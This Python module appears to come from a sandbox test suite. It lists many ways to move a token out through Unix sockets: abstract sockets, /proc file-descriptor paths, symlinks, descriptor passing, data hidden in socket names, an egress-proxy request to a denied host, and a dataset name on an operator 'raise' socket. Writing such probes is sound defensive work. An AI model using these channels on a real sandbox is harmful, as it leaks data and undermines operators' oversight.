"""Ways out by Unix sockets that lie in folders a sandbox shows, or that have no file."""

import array
import os
import socket
from pathlib import Path
from typing import Any

from hostile.ways_out.way import PRIVATE, To, add, way

UNIX, STREAM, DATAGRAM, SEQUENCED = socket.AF_UNIX, socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET
ANSWERING = 0.3
"""Seconds for an answer, which says only why a way was refused."""

KINDS = {"stream": STREAM, "datagram": DATAGRAM, "seqpacket": SEQUENCED}
PLACES = {
    "args": ("auto", "a folder that is named in `args`"),
    "project": ("auto", "the project of the script"),
    "ro": ("mounts", "a folder that `sandbox.mounts` shows read-only"),
    "rw": ("mounts", "a folder that `sandbox.mounts` shows writable"),
}
"""The folders in which receivers lie: the server that shows each, and its name in sentences."""


def connected(kind: int, address: str) -> socket.socket:
    end = socket.socket(UNIX, kind)
    end.settimeout(1)
    end.connect(address)
    return end


def _to(place: str, kind: str) -> Any:
    return lambda to, token: connected(KINDS[kind], f"{to[place]}/s.{kind}").send(token.encode())


def _abstract(kind: str) -> Any:
    return lambda to, token: connected(KINDS[kind], f"\0{to['abstract']}.{kind}").send(token.encode())


for _kind in KINDS:
    for _place, (_server, _words) in PLACES.items():
        _sentence = f"Connects to a {_kind} socket in {_words}."
        add(f"unix_{_kind}_{_place}", "unix", _sentence, _to(_place, _kind), server=_server)
    add(f"unix_{_kind}_abstract", "unix", f"Connects to a {_kind} socket without a file.", _abstract(_kind))


@way("unix", "Connects to a socket through the descriptor of its folder.")
def unix_folder_descriptor(to: To, token: str) -> None:
    folder = os.open(to["args"], os.O_PATH | os.O_DIRECTORY)
    connected(STREAM, f"/proc/self/fd/{folder}/s.stream").send(token.encode())


@way("unix", "Connects to a socket through a descriptor of the socket's own file.")
def unix_file_descriptor(to: To, token: str) -> None:
    handle = os.open(f"{to['args']}/s.stream", os.O_PATH)
    connected(STREAM, f"/proc/self/fd/{handle}").send(token.encode())


@way("unix", "Connects to a socket by a relative path.")
def unix_relative(to: To, token: str) -> None:
    os.chdir(to["args"])
    connected(STREAM, "s.stream").send(token.encode())


@way("unix", "Connects to a socket by a symbolic link in the temporary folder.")
def unix_symlink(to: To, token: str) -> None:
    link = Path(f"/tmp/link-{token}")
    link.symlink_to(f"{to['args']}/s.stream")
    try:
        connected(STREAM, str(link)).send(token.encode())
    finally:
        link.unlink()


@way("unix", "Sends a datagram to a path from one end of a socket pair, so that no socket is made alone.")
def unix_pair_sendto(to: To, token: str) -> None:
    one, _ = socket.socketpair(UNIX, DATAGRAM)
    one.sendto(token.encode(), f"{to['args']}/s.datagram")


@way("unix", "Connects one end of a socket pair to a path.")
def unix_pair_connect(to: To, token: str) -> None:
    one, _ = socket.socketpair(UNIX, DATAGRAM)
    one.connect(f"{to['args']}/s.datagram")
    one.send(token.encode())


@way("unix", "Sends a descriptor of a memory file that contains the data (SCM_RIGHTS).")
def unix_descriptor(to: To, token: str) -> None:
    memory = os.memfd_create("data")
    os.write(memory, token.encode())
    passed = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [memory]).tobytes())]
    connected(STREAM, f"{to['args']}/s.stream").sendmsg([b"-"], passed)


@way("unix", "Sends an empty datagram from a socket whose own name contains the data.")
def unix_source_name(to: To, token: str) -> None:
    with socket.socket(UNIX, DATAGRAM) as end:
        end.bind(f"\0{token}")
        end.sendto(b"-", f"{to['args']}/s.datagram")


@way(
    "unix",
    "Listens on a socket in a writable folder, and sends the data to the process that connects.",
    server="mounts",
    held=True,
)
def unix_listener(to: To, token: str) -> None:
    end = socket.socket(UNIX, STREAM)
    end.bind(f"{to['rw']}/back.sock")
    Path(to["rw"], "back.sock").chmod(0o666)
    end.listen()
    if os.fork() == 0:
        connection, _ = end.accept()
        connection.sendall(token.encode())
        os._exit(0)


@way("unix", "Connects to the socket of the egress proxy and sends it a request for a host that is not allowed.")
def unix_egress(to: To, token: str) -> None:
    private = os.environ.get("BASCULE_LANE") in PRIVATE
    end = connected(STREAM, "/run/bascule/egress/egress.sock" if private else f"{to['args']}/s.stream")
    end.settimeout(ANSWERING)
    end.send(f"GET http://denied.test/{token} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    end.recv(100)


def raise_socket(to: To) -> socket.socket:
    """The raise socket of the sandbox. With the defence off, any socket outside."""
    path = os.environ.get("BASCULE_RAISE_SOCKET", f"{to['args']}/s.stream")
    end = connected(STREAM, path)
    end.settimeout(ANSWERING)
    return end


@way(
    "raise socket",
    "Puts the data into the name of a dataset with which the sensitivity level is raised.",
    receiver="operator",
)
def raise_dataset(to: To, token: str) -> bytes:
    end = raise_socket(to)
    end.sendall(b'{"raise": {"dataset": "%s", "sensitivity": "confidential"}}\n' % token.encode())
    return end.recv(1000)


@way("raise socket", "Sends the data over the raise socket as a line that is no request.")
def raise_garbage(to: To, token: str) -> bytes:
    end = raise_socket(to)
    end.sendall(f"{token}\n".encode())
    return end.recv(1000)
